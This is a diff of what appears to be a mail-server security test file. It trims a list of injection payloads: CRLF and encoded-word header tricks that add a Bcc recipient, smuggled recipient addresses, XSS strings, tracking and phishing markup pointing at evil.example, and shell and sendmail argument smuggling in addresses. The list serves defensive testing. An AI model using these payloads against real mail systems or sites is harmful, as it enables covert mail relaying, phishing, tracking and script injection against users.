@@ -27,7 +27,6 @@ const injections = [
   'x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nx\r\n--b--',
   `=?utf-8?Q?x=0D=0ABcc:_${victim}?=`,
   `=?utf-8?B?${btoa(`x\r\nBcc: ${victim}`)}?=`,
-  `${'x'.repeat(990)}\r\n`,
   // Its code points end in those of line feeds.
   '嘊嘍Bcc: victim',
   // SMTP
@@ -39,45 +38,31 @@ const injections = [
   // Recipients
   `anh@client.example,${victim}`,
   `anh@client.example;${victim}`,
-  `anh@client.example ${victim}`,
   `anh@client.example%0ABcc:${victim}`,
   `anh@client.example>,<${victim}`,
   `"anh@client.example>,<${victim}"@client.example`,
   `"Anh" <${victim}>`,
   `friends: ${victim}, anh@client.example;`,
   `anh@client.example?bcc=${victim.replace('@', '%40')}`,
-  `=?utf-8?Q?anh=40client.example=3E=2C=3Cvictim?=@evil.example`,
   `anh@client.example\u2028${victim}`,
   `anh@client.example，${victim}`,
   `@a.example,@b.example:anh@client.example`,
-  'anh@[127.0.0.1]',
-  '-oQ/tmp@client.example',
-  '`id`@client.example',
   'anh\u202emoc.@client.example',
   // Markup
   '<script>alert(1)</script>',
   '<img src="https://evil.example/pixel.gif" width=1 height=1>',
-  '<svg/onload=alert(1)>',
-  '<style>@import url(https://evil.example/x.css);</style>',
   '<div style="background:url(https://evil.example/x)">',
-  '<base href="https://evil.example/">',
-  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
   '<a href=" &#106;avascript:alert(1)">click</a>',
   '"><script>alert(1)</script>',
   '" onmouseover="alert(1)',
-  "' onmouseover='alert(1)",
-  '</td></tr></table><script>alert(1)</script>',
   '</title><script>alert(1)</script>',
   '--><script>alert(1)</script><!--',
   '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<<img src=x onerror=alert(1)>>',
   '<!--[if mso]><xml><o:OfficeDocumentSettings/></xml><![endif]-->',
   // Templates
   '{id} {name} {count} {company} {phone}',
   '{constructor} {__proto__} {toString}',
   "$& $` $' $1 $$",
-  '%s %d %n %x %@',
 ];
 
 let server: MailServer;
